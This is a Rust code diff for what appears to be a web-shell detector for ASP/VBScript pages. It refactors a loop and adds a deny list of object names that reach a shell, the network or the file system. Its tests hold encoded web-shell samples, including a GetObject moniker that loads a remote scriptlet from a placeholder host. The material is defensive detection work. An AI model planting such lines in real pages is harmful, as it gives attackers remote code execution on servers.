@@ -328,9 +328,7 @@ impl VbscriptBlocks {
         for line in blocks.split_inclusive(|b| *b == b'\n') {
             let mut literal_start = None;
             let mut statement_start = true;
-            let mut i = 0;
-            while i < line.len() {
-                let byte = line[i];
+            for (i, &byte) in line.iter().enumerate() {
                 if literal_start.is_none() {
                     let rem = statement_start
                         && line[i..].starts_with(b"rem")
@@ -350,7 +348,6 @@ impl VbscriptBlocks {
                     _ => {}
                 }
                 code.push(byte);
-                i += 1;
             }
             // An unclosed literal ends with its line.
             if let Some(start) = literal_start {
@@ -466,9 +463,26 @@ fn variable_sinks(code: &Code, names: &Assignments) -> Vec<(usize, &'static str)
     out
 }
 
+/// Names that reach objects besides `CreateObject` (a hidden keyword): a moniker
+/// (`GetObject("script:http://...")`), JScript's `ActiveXObject`, and the objects that
+/// reach a shell, the network or the file system, by any name.
+const OBJECT_REACH: [&str; 6] = [
+    "getobject",
+    "activexobject",
+    "shell",
+    "xmlhttp",
+    "scripting.",
+    "adodb.",
+];
+
 /// What code run from a constant may not spell for the constant to count as plain
-/// code: the request, a sink, a keyword shells hide, a file write.
-const NOT_PLAIN_CODE: [&[&str]; 3] = [&HIDDEN_KEYWORDS, &SINKS_ANY_ARGUMENT, &FILE_WRITES];
+/// code: the request, a sink, a keyword shells hide, a file write, an object.
+const NOT_PLAIN_CODE: [&[&str]; 4] = [
+    &HIDDEN_KEYWORDS,
+    &SINKS_ANY_ARGUMENT,
+    &FILE_WRITES,
+    &OBJECT_REACH,
+];
 
 /// True when what follows an `Eval` or `Execute` on its line (`line`) is one constant
 /// once character codes are spelled and pieces joined (`Eval(Chr(115) & Chr(101) ...)`),
@@ -1268,6 +1282,7 @@ mod tests {
         for code in [
             "eval request(\"a\")",
             "set s = createobject(\"wscript.shell\")",
+            "set o = getobject(\"script:http://x/y.sct\")",
         ] {
             let page = format!("<% Execute({}) %>", codes(code));
             assert!(
